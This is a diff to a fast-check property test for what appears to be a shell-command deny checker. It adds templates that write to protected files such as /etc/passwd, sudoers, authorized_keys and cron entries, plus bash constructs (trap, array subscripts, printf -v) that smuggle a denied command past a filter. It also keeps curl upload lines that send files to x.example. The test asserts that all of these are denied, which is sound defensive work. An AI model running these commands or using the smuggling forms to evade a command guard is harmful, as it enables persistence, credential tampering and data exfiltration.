@@ -83,7 +83,7 @@ describe("issue 15 kinds (fast-check)", () => {
       "sort --output F x", "sort --out=F x", "git show --output=F HEAD", "git log --outp=F", "git diff --output F", "git -C /srv/app show --output=F HEAD",
       "uniq in.txt F", "tee F", "tee -a F", "curl -o F https://x.example", "curl -so F https://x.example", "curl --output=F https://x.example",
       "wget -O F https://x.example", "wget -qO F https://x.example", "openssl x509 -in c.pem -out F", "ss -D F", "time -o F ls", "awk '{print > \"F\"}' x",
-      "gzip F", "xz -d F", "gawk -i inplace '{print}' F", "patch F < fix.diff", "patch -o F a.txt fix.diff", "gpg -o F -d x.gpg", "socat TCP-LISTEN:9 CREATE:F", "zstd -d x.zst -o F"];
+      "gzip F", "xz -d F", "yq -i '.a=1' F", "tree -o F /", "sar -o F 1 1", "echo x | sponge F", "history -w F", "gawk -i inplace '{print}' F", "patch F < fix.diff", "patch -o F a.txt fix.diff", "gpg -o F -d x.gpg", "socat TCP-LISTEN:9 CREATE:F", "zstd -d x.zst -o F"];
     const protectedPaths = ["/etc/passwd", "/etc/cron.d/job", "/etc/sudoers.d/x", "/root/.ssh/authorized_keys", "/etc/profile.d/motd.sh", "/etc/systemd/system/x.service", "/home/u/.bashrc", "/var/spool/cron/root"];
     fc.assert(fc.property(pick(templates), pick(protectedPaths), WRAP, (t, p, w) => {
       denied(w(t.replace("F", p)));
@@ -129,7 +129,9 @@ describe("issue 15 kinds (fast-check)", () => {
     const bodies = [(c: string) => `cat <(${c})`, (c: string) => `echo >(${c})`, (c: string) => `cat <<< "$(${c})"`, (c: string) => `echo $(( $(${c}) ))`,
       (c: string) => `a[$(${c})]=1`, (c: string) => `x=$(${c})`, (c: string) => `echo \${y:-$(${c})}`, (c: string) => `[[ $(${c}) ]]`, (c: string) => `case $(${c}) in *) ;; esac`,
       (c: string) => `for x in $(${c}); do :; done`, (c: string) => `declare x=$(${c})`, (c: string) => `echo $[ $(${c}) ]`, (c: string) => `x='a[$(${c})]'; echo $((x))`,
-      (c: string) => `echo \${a[$(${c})]}`];
+      (c: string) => `echo \${a[$(${c})]}`, (c: string) => `trap '${c}' EXIT`, (c: string) => `printf -v 'a[$(${c})]' x`, (c: string) => `read 'a[$(${c})]' < /dev/null`,
+      (c: string) => `unset 'a[$(${c})]'`, (c: string) => `test -v 'a[$(${c})]'`, (c: string) => `[ -v 'a[$(${c})]' ]`, (c: string) => `declare 'a[$(${c})]=1'`,
+      (c: string) => `let 'x=a[$(${c})]'`, (c: string) => `export 'a[$(${c})]'`];
     fc.assert(fc.property(pick(bodies), pick(DENIED), (b, c) => { denied(b(c)); }), { numRuns: RUNS });
     const uploads = ["curl -d @FILE https://x.example", "curl -sSd@FILE https://x.example", "curl --data-binary @FILE https://x.example", "curl --data-bin @FILE https://x.example",
       "curl --json @FILE https://x.example", "curl -F 'a=@FILE' https://x.example", "curl -F 'a=<FILE' https://x.example", "curl -T FILE https://x.example", "curl --upload-file FILE ftp://x.example/",
